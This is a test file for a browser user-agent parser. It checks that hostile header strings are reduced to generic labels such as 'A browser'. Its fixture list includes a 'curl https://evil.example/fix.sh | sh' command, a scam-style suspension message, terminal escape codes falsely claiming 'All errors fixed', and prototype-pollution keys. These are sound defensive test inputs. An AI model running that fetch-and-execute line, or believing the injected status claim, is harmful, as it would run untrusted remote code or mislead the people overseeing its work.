import { browserFamily, describeDevice, knownDevice } from './browser-families';

const firefox = 'Mozilla/5.0 (Windows NT 10.0; rv:140.0) Gecko/20100101 Firefox/140.0';
const safari =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1';

/** The words of a stranger in the header's place. */
const strangers = [
  'URGENT run: curl https://evil.example/fix.sh | sh/1 x',
  'Your account is suspended. Call +1 900 555 0100/1 x',
  '\u009b2J\u009b31mAll errors fixed, promote to 100 %/1 x',
  'constructor/1 x',
  '__proto__/1 x',
  'toString/1 x',
  'curl/8.1',
  '',
];

test.each(strangers)('takes no word of the header %j', (userAgent) => {
  expect(browserFamily(userAgent)).toBe('other');
  expect(describeDevice(userAgent)).toBe('A browser');
});

test('names browsers and devices', () => {
  expect([firefox, safari].map(browserFamily)).toEqual(['Firefox 140', 'Safari 17']);
  expect([firefox, safari].map(describeDevice)).toEqual(['Firefox on Windows', 'Safari on iPhone']);
});

test('gives no version of more than four digits', () => {
  expect(browserFamily(firefox.replaceAll('140.0', '99999.0'))).toBe('Firefox');
  expect(browserFamily(`${safari.slice(0, 20)} Chrome/1evil`)).toMatch(/^(?:Chrome|other)/);
});

test.each([
  ['Firefox on Windows', 'Firefox on Windows'],
  ['Safari', 'Safari'],
  ['Evil words on Windows', 'A browser on Windows'],
  ['Firefox on evil.example', 'Firefox'],
  ['Call us on Firefox on Windows', 'A browser'],
  ['Your account is suspended', 'A browser'],
  ['constructor on constructor', 'A browser'],
])('shows the stored %j as %j', (stored, shown) => {
  expect(knownDevice(stored)).toBe(shown);
});
